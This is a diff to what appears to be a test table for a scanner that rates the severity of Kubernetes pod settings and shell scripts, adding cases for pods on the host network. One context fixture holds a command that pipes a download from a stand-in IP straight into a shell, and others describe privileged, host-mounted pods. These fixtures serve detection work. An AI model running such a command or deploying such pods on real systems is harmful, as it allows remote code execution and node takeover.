@@ -33,6 +33,18 @@ const SEVERITIES: Record<string, [facts: Facts, severity: Severity]> = {
   ],
   'a download and nothing more': [script('curl -fsS https://example.com/health'), 'info'],
   'a download into an interpreter': [script('curl -s http://203.0.113.7/x | sh'), 'high'],
+  'the network of the node, with a floating tag and shell text': [
+    pod({ hostNetwork: true, containers: [{ name: 'a', image: 'acme/aws:latest', command: ['sh', '-c', 'date'] }] }),
+    'low',
+  ],
+  'the network of the node, in a container that waits': [
+    pod({ hostNetwork: true, containers: [{ name: 'a', image: 'alpine:latest', command: ['sleep', 'infinity'] }] }),
+    'medium',
+  ],
+  'the network of the node, for an image of which nothing is known': [
+    pod({ hostNetwork: true, containers: [{ name: 'a', image: 'images.harbour-tools.io/sync:2' }] }),
+    'medium',
+  ],
   'a privileged container and nothing more': [secured({ privileged: true }), 'medium'],
   'every power over the node, and no act': [
     pod({ ...mounting('/'), hostPID: true, hostNetwork: true, ...privileged }),
